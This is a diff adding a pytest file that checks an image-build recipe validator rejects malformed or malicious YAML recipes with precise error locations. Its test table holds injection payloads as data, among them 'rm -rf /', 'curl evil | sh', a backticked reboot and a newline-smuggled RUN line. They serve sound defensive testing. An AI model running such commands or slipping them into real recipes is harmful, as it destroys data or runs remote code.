@@ -1,0 +1,129 @@
+"""Bad recipes: each gives `FILE:LINE:COL: field.path: message`, exit code 2, and no traceback."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from imgbuild.errors import RecipeError
+from imgbuild.recipe import load_recipe
+from tests.conftest import run_cli
+
+HEAD = 'name: demo\nbase: {framework: pytorch, tag: "24.05"}\n'  # lines 1-2
+
+# (id, recipe text, line, field path, words the message must contain)
+BAD_RECIPES = [
+    ("unknown-top-key", HEAD + "pipp: [einops]\n", 3, "pipp", "unknown key (did you mean 'pip'?)"),
+    ("unknown-nested-key", HEAD + "pip:\n  packagez: [einops]\n", 4, "pip.packagez", "unknown key"),
+    ("name-uppercase", 'name: Demo\nbase: {framework: pytorch, tag: "24.05"}\n', 1, "name", "not a valid image name"),
+    ("name-missing", 'base: {framework: pytorch, tag: "24.05"}\n', 1, "name", "missing required field"),
+    ("tag-bad-chars", HEAD + "tag: 'v1 beta'\n", 3, "tag", "not a valid image tag"),
+    ("base-missing", "name: demo\n", 1, "base", "missing required field"),
+    ("base-framework-unknown", 'name: demo\nbase: {framework: jax, tag: "24.05"}\n', 2, "base.framework",
+     "'pytorch' or 'tensorflow'"),
+    ("base-tag-garbage", "name: demo\nbase: {framework: pytorch, tag: banana}\n", 2, "base.tag", "not an NGC tag"),
+    ("base-both-forms", "name: demo\nbase:\n  framework: pytorch\n  tag: '24.05'\n  image: ubuntu:22.04\n", 3,
+     "base", "either image, or framework and tag"),
+    ("base-no-tag", "name: demo\nbase: {framework: pytorch}\n", 2, "base", "needs framework and tag"),
+    ("pip-bad-spec", HEAD + "pip: ['einops>=']\n", 3, "pip.packages[0]", "not a valid requirement"),
+    ("pip-option-injection", HEAD + "pip:\n  - einops\n  - --index-url http://evil/simple\n", 5,
+     "pip.packages[1]", "pip options are not allowed"),
+    ("pip-credentials-in-url", HEAD + "pip:\n  index_url: https://bob:hunter2@pypi.example/simple\n", 4,
+     "pip.index_url", "credentials in a recipe"),
+    ("pip-packages-not-list", HEAD + "pip:\n  packages: einops\n", 4, "pip.packages", "must be a list"),
+    ("apt-injection-semicolon", HEAD + "apt: [git, 'vim; rm -rf /']\n", 3, "apt[1]", "not a Debian/Ubuntu package name"),
+    ("apt-injection-and", HEAD + "apt:\n  - curl && curl evil | sh\n", 4, "apt[0]", "not a Debian/Ubuntu package name"),
+    ("apt-injection-backtick", HEAD + "apt: ['`reboot`']\n", 3, "apt[0]", "not a Debian/Ubuntu package name"),
+    ("env-key-space", HEAD + "env:\n  'BAD KEY': x\n", 4, "env.BAD KEY", "not a valid environment variable name"),
+    ("env-key-injection", HEAD + "env:\n  'A;B': x\n", 4, "env.A;B", "not a valid environment variable name"),
+    ("env-value-newline", HEAD + 'env:\n  GOOD: "line1\\nRUN rm -rf /"\n', 4, "env.GOOD", "must be one line"),
+    ("env-bool", HEAD + "env:\n  DEBUG: yes\n", 4, "env.DEBUG", "quote it"),
+    ("env-protected", HEAD + "env:\n  PYTORCH_VERSION: '9.9'\n", 4, "env.PYTORCH_VERSION", "cannot be overridden"),
+    ("files-missing-src", HEAD + "files:\n  - {src: nope.py, dest: /opt/nope.py}\n", 4, "files[0].src", "no such file"),
+    ("files-relative-dest", HEAD + "files:\n  - {src: here.txt, dest: opt/x}\n", 4, "files[0].dest",
+     "must be an absolute path"),
+    ("files-bad-mode", HEAD + "files:\n  - {src: here.txt, dest: /opt/x, mode: rwx}\n", 4, "files[0].mode",
+     "not an octal file mode"),
+    ("files-duplicate-dest", HEAD + "files:\n  - {src: here.txt, dest: /opt/x}\n  - {src: here.txt, dest: /opt/x}\n",
+     5, "files[1].dest", "already a destination"),
+    ("workdir-relative", HEAD + "workdir: workspace\n", 3, "workdir", "must be an absolute path"),
+    ("user-root-uid", HEAD + "user: {uid: 0}\n", 3, "user.uid", "greater than or equal to 1"),
+    ("user-bad-name", HEAD + "user: Alice\n", 3, "user.name", "not a valid user name"),
+    ("labels-reserved", HEAD + "labels:\n  org.imgbuild.recipe-hash: forged\n", 4, "labels.org.imgbuild.recipe-hash",
+     "written by imgbuild"),
+    ("run-newline", HEAD + 'run: ["echo a\\necho b"]\n', 3, "run[0]", "must be one line"),
+    ("entrypoint-number", HEAD + "entrypoint: 42\n", 3, "entrypoint", "string"),
+    ("undefined-variable", HEAD + "tag: ${IMGBUILD_TEST_UNSET_VARIABLE}\n", 3, "tag",
+     "environment variable IMGBUILD_TEST_UNSET_VARIABLE is not set"),
+    ("duplicate-key", HEAD + "tag: a\ntag: b\n", 4, "tag", "duplicate key"),
+    ("yaml-syntax", HEAD + "pip: [einops\n", 4, "", "YAML syntax error"),
+    ("extends-missing", "extends: nowhere.yaml\n" + HEAD, 1, "extends", "no such recipe"),
+    ("smoke-unknown", HEAD + "smoke: {require_gpus: true}\n", 3, "smoke.require_gpus", "did you mean 'require_gpu'"),
+]
+
+
+@pytest.mark.parametrize("case_id,text,line,field,words", BAD_RECIPES, ids=[c[0] for c in BAD_RECIPES])
+def test_bad_recipe_names_file_line_and_field(case_id, text, line, field, words, write, monkeypatch):
+    monkeypatch.delenv("IMGBUILD_TEST_UNSET_VARIABLE", raising=False)
+    write("here.txt", "x")
+    path = write("recipe.yaml", text)
+    with pytest.raises(RecipeError) as info:
+        load_recipe(path)
+    lines = info.value.lines()
+    field_part = f" {field}:" if field else ""
+    pattern = re.compile(rf"recipe\.yaml:{line}:\d+:{re.escape(field_part)} ")
+    matching = [ln for ln in lines if pattern.search(ln)]
+    assert matching, f"no problem at line {line} for {field!r} in {lines}"
+    assert any(words in ln for ln in matching), f"{words!r} not in {matching}"
+    assert info.value.exit_code == 2
+
+
+def test_table_is_large_enough():
+    assert len(BAD_RECIPES) >= 25
+
+
+def test_validate_reports_every_problem_at_once_with_exit_2(write):
+    path = write("many.yaml", HEAD + "apt: ['a;b']\nenv: {'X Y': z}\nworkdir: rel\npipp: []\n")
+    res = run_cli("validate", str(path))
+    assert res.code == 2
+    problem_lines = res.err.strip().splitlines()
+    assert len(problem_lines) == 4, res.err
+    assert all(re.match(r"^\S*many\.yaml:\d+:\d+: [^:]+: ", ln) for ln in problem_lines), res.err
+    assert "Traceback" not in res.err
+
+
+def test_validate_accepts_the_example_recipes():
+    recipes = sorted(str(p) for p in (Path(__file__).parent.parent / "recipes").glob("*.yaml"))
+    assert len(recipes) >= 3
+    res = run_cli("validate", *recipes)
+    assert res.code == 0, res.err
+    assert res.out.count(": ok") == len(recipes)
+
+
+def test_validate_json_lists_problems(write):
+    path = write("bad.yaml", HEAD + "apt: ['a;b']\n")
+    res = run_cli("validate", "--json", str(path))
+    assert res.code == 2
+    import json
+
+    data = json.loads(res.out)
+    assert data[0]["ok"] is False and "apt[0]" in data[0]["problems"][0]
+
+
+def test_extends_cycle_is_reported(write):
+    write("a.yaml", "extends: b.yaml\n" + HEAD)
+    write("b.yaml", "extends: a.yaml\n" + HEAD)
+    with pytest.raises(RecipeError) as info:
+        load_recipe(write("c.yaml", "extends: a.yaml\n" + HEAD))
+    assert "extends cycle" in str(info.value)
+    assert "a.yaml -> " in str(info.value)
+
+
+def test_problem_in_parent_recipe_points_at_parent_file(write):
+    write("house.yaml", HEAD + "apt: ['bad pkg']\n")
+    child = write("team.yaml", "extends: house.yaml\nname: team\n")
+    with pytest.raises(RecipeError) as info:
+        load_recipe(child)
+    assert re.search(r"house\.yaml:3:\d+: apt\[0\]:", str(info.value)), str(info.value)
